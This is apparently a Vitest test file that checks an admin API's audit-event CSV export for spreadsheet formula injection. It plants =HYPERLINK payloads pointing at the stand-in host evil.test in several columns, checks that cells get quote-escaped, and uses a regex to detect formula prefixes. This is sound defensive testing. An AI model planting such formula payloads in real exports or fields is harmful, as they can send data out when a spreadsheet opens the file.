import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { schema } from "@atrium/db";
import { startTestApi, type TestApi } from "../../testing.js";
import { bearer, call, routes } from "../../test-transports.js";
import { safeCell } from "./csv-export.js";

let api: TestApi;
let staff: string;
beforeAll(async () => {
  api = await startTestApi();
  staff = ((await call(api.url, "rest", routes.token, { username: "admin", password: "admin123" })).data as { token: string }).token;
});
afterAll(async () => api?.close());

const FORMULA = /^[=+\-@\t\r]/;

describe("CSV exports", () => {
  it("formula-escape every column, the IP address included", async () => {
    const evil = (col: string) => `=HYPERLINK("http://evil.test/?${col}","x")`;
    await api.svc.db.insert(schema.auditEvents).values({
      eventType: "+evil.event",
      actorUsername: evil("actor"),
      targetType: "@target",
      targetId: evil("target"),
      ipAddress: evil("ip"),
      userAgent: "-2+3",
      details: {},
    });
    const res = await fetch(`${api.url}/api/admin/audit-events/export.csv`, { headers: bearer(staff) });
    expect(res.status).toBe(200);
    const rows = (parse(await res.text(), { columns: true }) as Array<Record<string, string>>).filter((r) => r.eventType?.includes("evil.event"));
    expect(rows).toHaveLength(1);
    const row = rows[0] ?? {};
    expect(row.ipAddress).toBe(`'${evil("ip")}`);
    expect(row.eventType).toBe("'+evil.event");
    expect(row.targetType).toBe("'@target");
    for (const [column, cell] of Object.entries(row)) expect(FORMULA.test(cell), `${column}: ${cell}`).toBe(false);
  });

  it("leave plain numbers (negative amounts) as numbers", () => {
    expect(safeCell("-500")).toBe("-500");
    expect(safeCell("-1.5")).toBe("-1.5");
    expect(safeCell("-1+1")).toBe("'-1+1");
  });
});
